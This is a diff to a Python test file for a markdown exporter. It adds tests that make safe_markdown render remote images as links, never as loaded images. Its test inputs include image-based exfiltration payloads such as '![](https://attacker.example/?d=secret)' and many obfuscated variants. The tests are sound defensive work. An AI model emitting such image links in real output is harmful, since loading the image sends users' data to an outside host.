@@ -20,17 +20,14 @@ from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
 from acp_sidecar.export.clip import COLLAPSE_LINES, HEAD_LINES, TAIL_LINES
-from acp_sidecar.export.gfm import (
+from acp_sidecar.export.gfm import details, escape_text, fence, inline_code
+from acp_sidecar.export.gfm_cards import (
     card_markdown,
-    details,
-    escape_text,
-    fence,
-    inline_code,
     message_markdown,
     plan_markdown,
-    safe_markdown,
     thought_markdown,
 )
+from acp_sidecar.export.gfm_safe import safe_markdown
 from acp_sidecar.render.fold import CardState, TerminalState, apply_tool_update
 
 GOLDEN = Path(__file__).resolve().parents[1] / "bridge" / "golden"
@@ -321,6 +318,53 @@ def test_javascript_links_are_not_links() -> None:
     assert hrefs == ["https://ok.example"]
 
 
+def _images(markdown: str) -> list[str]:
+    return [str(t.attrGet("src")) for t in _all(GITHUB.parse(markdown)) if t.type == "image"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](https://attacker.example/?d=secret)",
+        'see ![chart *of* it](https://attacker.example/c.png "t") here',
+        "![ref]\n\n[ref]: https://attacker.example/r.png",
+        "![alt][r]\n\n[r]: https://attacker.example/r.png",
+        "| a |\n|---|\n| ![x](https://attacker.example/t.png) |",
+        "[![badge](https://attacker.example/b.svg)](https://ok.example)",
+        "\\\\![two backslashes](https://attacker.example/b.png)",
+        "- ![in a list](https://attacker.example/l.png)\n> ![in a quote](https://attacker.example/q.png)",
+        "<b>html too</b> ![x](https://attacker.example/h.png)",
+    ],
+)
+def test_a_remote_image_in_a_message_is_a_link_never_loaded(text: str) -> None:
+    """GitHub fetches an image's source when the file is viewed (so a URL can carry data
+    out): in an export an image is a link to its source, as in the HTML page."""
+    out = safe_markdown(text)
+    assert _images(out) == []
+    hrefs = [t.attrGet("href") for t in _all(GITHUB.parse(out)) if t.type == "link_open"]
+    assert any("attacker.example" in str(h) for h in hrefs), out
+    for fragment in (
+        message_markdown("agent", [{"type": "text", "text": text}]),
+        message_markdown("user", [{"type": "text", "text": text}]),
+        thought_markdown([{"type": "text", "text": text}]),
+    ):
+        assert _images(fragment) == [], fragment
+
+
+def test_an_image_in_code_stays_code() -> None:
+    text = "`![a](https://x.example/a.png)`\n\n```\n![b](https://x.example/b.png)\n```"
+    assert safe_markdown(text) == text + "\n"
+
+
+@settings(max_examples=300)
+@given(text=MARKDOWNISH | st.text(max_size=100))
+@example(text="![a](b)")
+@example(text="\\![a](b)")
+@example(text="`` ![a](b)")
+def test_no_message_holds_an_image(text: str) -> None:
+    assert _images(safe_markdown(text)) == []
+
+
 # -- messages, thoughts, plans -----------------------------------------------------------
 
 
@@ -570,7 +614,7 @@ def test_every_block_of_the_recorded_session_is_drawn_and_contained() -> None:
 
 
 def test_the_quick_control_search_finds_exactly_what_visible_replaces() -> None:
-    from acp_sidecar.export.gfm import _CONTROL, _VISIBLE
+    from acp_sidecar.render.controls import _CONTROL, _VISIBLE
 
     found = {code for code in range(0xD800) if _CONTROL.search(chr(code))}
     assert found == set(_VISIBLE)
